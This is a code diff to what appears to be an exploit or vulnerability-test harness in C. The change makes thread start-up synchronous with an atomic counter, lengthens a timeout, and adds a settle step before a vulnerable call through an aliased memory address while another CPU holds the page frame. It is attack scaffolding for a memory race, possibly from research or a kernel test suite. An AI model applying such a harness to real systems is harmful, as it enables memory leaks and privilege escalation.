@@ -9,7 +9,7 @@
 
 #include "attack.h"
 
-enum { PATIENCE_S = 15, EXIT_STUCK = 3, LOOKS_PER_CLOCK = 1 << 16, NR_WARMINGS = 32 };
+enum { PATIENCE_S = 120, EXIT_STUCK = 3, LOOKS_PER_CLOCK = 1 << 16, NR_WARMINGS = 32 };
 
 struct start {
 	unsigned int cpu;
@@ -52,28 +52,17 @@ void attack_begin(struct bw_leak *leak, unsigned int nr_cpus, unsigned int cpu)
 	attack_leak(leak);
 }
 
+static attack_stage nr_running;
+
 static void *thread_main(void *argument)
 {
 	struct start start = *(struct start *)argument;
 
 	free(argument);
 	attack_pin(start.cpu);
+	__atomic_fetch_add(&nr_running, 1, __ATOMIC_RELEASE);
 	start.body(start.argument);
 	return NULL;
-}
-
-void attack_thread(unsigned int cpu, void (*body)(void *), void *argument)
-{
-	struct start *start = malloc(sizeof(*start));
-	pthread_t thread;
-
-	if (start == NULL) {
-		attack_skip("no memory for a thread");
-	}
-	*start = (struct start){ cpu, body, argument };
-	if (pthread_create(&thread, NULL, thread_main, start) != 0) {
-		attack_skip("no thread could be started");
-	}
 }
 
 static time_t now_s(void)
@@ -113,6 +102,22 @@ void attack_await(const attack_stage *stage, unsigned int value, enum attack_awa
 			lose_patience(since_s);
 		}
 	}
+}
+
+void attack_thread(unsigned int cpu, void (*body)(void *), void *argument)
+{
+	struct start *start = malloc(sizeof(*start));
+	unsigned int nr_before = nr_running;
+	pthread_t thread;
+
+	if (start == NULL) {
+		attack_skip("no memory for a thread");
+	}
+	*start = (struct start){ cpu, body, argument };
+	if (pthread_create(&thread, NULL, thread_main, start) != 0) {
+		attack_skip("no thread could be started");
+	}
+	attack_await(&nr_running, nr_before + 1, AWAIT_YIELD);
 }
 
 void attack_warm(uint64_t synonym)
@@ -163,6 +168,7 @@ int attack_while_held(const char *call, long (*hold)(const void *page), const ch
 	attack_await_parked(1);
 	attack_say("CPU %d holds frame 0x%lx %s", CPU_OF_HOLDER, attack_pfn(held.page), how);
 	attack_say("CPU %d calls through the same bytes at 0x%lx", CPU_OF_CALLER, synonym);
+	attack_settle();
 	attack_check("vuln_call", bw_vuln_call(synonym));
 	bw_vuln_unpark(true);
 	return attack_finish();
